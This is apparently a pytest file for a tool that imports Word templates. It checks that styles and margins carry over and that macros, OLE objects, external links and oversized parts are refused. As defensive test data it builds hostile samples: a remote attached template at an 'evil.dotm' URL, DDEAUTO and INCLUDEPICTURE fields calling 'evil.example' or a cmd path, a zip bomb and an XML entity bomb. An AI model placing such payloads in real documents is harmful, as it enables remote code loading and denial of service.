"""Templates: styles, margins, header and footer come over; text, macros and ties to the outside do not."""

import io
import zipfile
from datetime import date

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.shared import Mm, Pt, RGBColor

from leitplanke.catalogue.entries import Catalogue
from leitplanke.primitives.faults import InputFaultsError
from leitplanke.reports import template
from leitplanke.reports.branding import Branding
from leitplanke.reports.papers import Matter, make
from leitplanke.study.result import StudyResult

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def made() -> "docx.document.Document":
    word = docx.Document()
    word.add_paragraph("Sehr geehrte Damen und Herren")
    word.add_table(rows=1, cols=1)
    heading = word.styles["Heading 1"]
    heading.font.name, heading.font.size, heading.font.color.rgb = "Georgia", Pt(21), RGBColor(0xAA, 0x00, 0x33)
    section = word.sections[0]
    section.page_width, section.left_margin, section.right_margin = Mm(210), Mm(35), Mm(35)
    section.header.paragraphs[0].text = "Kammer Musterstadt"
    section.footer.paragraphs[0].text = "Postfach 1"
    word.styles.element.remove(word.styles["List Bullet"].element)
    return word


def saved(word: "docx.document.Document") -> bytes:
    file = io.BytesIO()
    word.save(file)
    return file.getvalue()


def code_of(data: bytes) -> str:
    with pytest.raises(InputFaultsError) as caught:
        template.read(data, "vorlage.docx")
    return caught.value.faults[0].code


def test_the_report_looks_like_the_template(result: StudyResult, catalogue: Catalogue) -> None:
    branding = Branding(template=template.read(saved(made()), "vorlage.docx"))
    word = docx.Document(io.BytesIO(make("report.docx", Matter(result=result, catalogue=catalogue, branding=branding), "de")))
    heading = next(one for one in word.paragraphs if one.style.name == "Heading 1")
    assert (heading.style.font.name, heading.style.font.size, str(heading.style.font.color.rgb)) == ("Georgia", Pt(21), "AA0033")
    assert word.sections[0].left_margin == made().sections[0].left_margin
    assert "Kammer Musterstadt" in [one.text for one in word.sections[0].header.paragraphs]
    foot = [one.text for one in word.sections[0].footer.paragraphs]
    assert foot[0] == "Postfach 1"
    assert result.study.input_hash[:12] in foot[1]
    assert not any("Sehr geehrte" in one.text for one in word.paragraphs)
    # The page is 210 mm wide: between these margins there are 140.
    assert all(sum(cell.width for cell in table.rows[0].cells) <= Mm(141) for table in word.tables)
    assert any(one.style.name == "List Bullet" for one in word.paragraphs)


def test_ties_to_the_outside_are_cut() -> None:
    word = made()
    word.part.relate_to("http://198.51.100.1/evil.dotm", f"{OFFICE}/attachedTemplate", is_external=True)
    word.part.relate_to("http://198.51.100.1/pixel.png", RELATIONSHIP_TYPE.IMAGE, is_external=True)
    assert b"198.51.100.1" in unpacked(saved(word))
    assert b"198.51.100.1" not in unpacked(template.read(saved(word), "vorlage.docx"))


def unpacked(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        return b"".join(parts.read(name) for name in parts.namelist())


def with_part(name: str, content: bytes = b"x") -> bytes:
    file = io.BytesIO(saved(made()))
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as parts:
        parts.writestr(name, content)
    return file.getvalue()


def test_refusals() -> None:
    assert code_of(b"no archive") == "template-unknown"
    assert code_of(with_part("word/vbaProject.bin")) == "template-unknown"
    assert code_of(with_part("word/embeddings/oleObject1.bin")) == "template-unknown"
    assert code_of(with_part("word/media/bomb.png", b"\0" * 40_000_000)) == "template-too-big"
    assert code_of(b"0" * (template.LARGEST_BYTES + 1)) == "template-too-big"
    broken = io.BytesIO()
    with zipfile.ZipFile(broken, "w") as parts:
        parts.writestr("word/document.xml", "<w:document")
    assert code_of(broken.getvalue()) == "template-broken"


def test_a_logo_stands_in_the_header_with_its_text(result: StudyResult, catalogue: Catalogue) -> None:
    from leitplanke.reports import logo  # noqa: PLC0415 - only here

    svg = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 20 6"><rect width="20" height="6" fill="#00594A"/></svg>'
    branding = Branding(logo=logo.read(svg, "logo.svg"))
    matter = Matter(result=result, catalogue=catalogue, on=date(2026, 11, 22), branding=branding)
    word = docx.Document(io.BytesIO(make("report.docx", matter, "de")))
    assert b"Logo der Organisation" in word.sections[0].header.part.blob
    for paper in ("report.pdf", "one-page.pdf", "slides.pdf"):
        plain = make(paper, Matter(result=result, catalogue=catalogue, on=date(2026, 11, 22)), "de")  # type: ignore[arg-type] - names of papers
        assert len(make(paper, matter, "de")) > len(plain)  # type: ignore[arg-type] - names of papers
    assert b'alt="Logo der Organisation"' in make("report.html", matter, "de")


@pytest.mark.parametrize("word", ["INCLUDEPICTURE", "DDEAUTO", "dde", "INCLUDETEXT", "LINK", "MACROBUTTON", "DATABASE"])
def test_fields_that_fetch_or_start_something_are_refused(word: str) -> None:
    whole = f'<w:r><w:instrText xml:space="preserve"> {word} "http://evil.example/a" </w:instrText></w:r>'
    torn = f"<w:r><w:instrText>{word[:2]}</w:instrText></w:r><w:r><w:instrText>{word[2:]} c:\\\\cmd</w:instrText></w:r>"
    simple = f'<w:fldSimple w:instr=" {word} x "/>'
    for field in (whole, torn, simple, simple.replace(word, f"&#{ord(word[0])};{word[1:]}")):
        part = f'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p>{field}</w:p></w:hdr>'
        assert code_of(with_part("word/header9.xml", part.encode())) == "template-unknown", field
    page = '<w:hdr xmlns:w="x"><w:p><w:fldSimple w:instr=" PAGE "/><w:instrText> DATE </w:instrText></w:p></w:hdr>'
    assert template.read(with_part("word/header9.xml", page.encode()), "vorlage.docx")


def test_entities_are_refused_in_every_part() -> None:
    bomb = '<!DOCTYPE a [<!ENTITY b "lol">]><a>&b;</a>'
    for name, content in (("word/x.xml", bomb.encode()), ("word/x.bin", bomb.encode()), ("word/x.xml", bomb.encode("utf-16"))):
        assert code_of(with_part(name, content)) == "template-unknown"
